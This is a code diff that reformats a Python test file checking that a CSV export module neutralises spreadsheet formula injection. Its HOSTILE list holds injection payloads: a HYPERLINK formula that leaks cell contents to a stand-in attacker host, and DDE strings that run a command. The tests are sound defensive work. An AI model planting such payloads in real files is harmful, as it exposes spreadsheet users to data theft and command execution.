@@ -18,8 +18,14 @@ from paratrain.csvsafe import FORMULA_START, neutralise, restore
 from paratrain.reports import export
 from tests.reports.test_frames import inputs
 
-HOSTILE = ['=HYPERLINK("http://attacker.invalid/?x="&A1,"Click")', "+cmd|' /C calc'!A0",
-           "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "\t=1+1", "\r=1+1"]
+HOSTILE = [
+    '=HYPERLINK("http://attacker.invalid/?x="&A1,"Click")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3",
+    "\t=1+1",
+    "\r=1+1",
+]
 
 
 def cells(text: str) -> list[list[str]]:
@@ -81,9 +87,11 @@ def test_names_read_back_as_typed(tmp_path: Path) -> None:
 
 
 def test_roster_file_is_safe_and_survives_being_read_and_written_again() -> None:
-    people = [Person("ana", HOSTILE[0], HOSTILE[1], "=x@example.org"),
-              Person("ben", "@SUM(A1)", "-2+3", "", "supervisor"),
-              Person("cy", "'=quoted", "O'Neil")]
+    people = [
+        Person("ana", HOSTILE[0], HOSTILE[1], "=x@example.org"),
+        Person("ben", "@SUM(A1)", "-2+3", "", "supervisor"),
+        Person("cy", "'=quoted", "O'Neil"),
+    ]
     text = to_csv(people)
     for row in cells(text):
         assert not any(v.startswith(FORMULA_START) for v in row), row
